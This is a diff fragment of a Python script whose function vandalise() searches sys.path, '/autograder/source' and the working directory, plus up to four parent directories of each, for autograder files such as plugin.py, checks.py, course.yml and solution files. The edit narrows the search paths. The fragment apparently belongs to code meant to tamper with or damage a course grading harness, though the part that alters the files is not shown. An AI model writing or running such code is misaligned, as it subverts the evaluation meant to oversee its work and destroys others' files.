@@ -10,7 +10,7 @@ TARGETS = ("autograder/plugin.py", "autograder/checks.py", "course.yml", f"solut
 
 
 def vandalise():
-    bases = [p for p in sys.path if p] + ["/work/main", "/autograder/source", os.getcwd()]
+    bases = [p for p in sys.path if p] + ["/autograder/source", os.getcwd()]
     for base in bases:
         for up in range(4):
             root = os.path.abspath(os.path.join(base, *([".."] * up)))
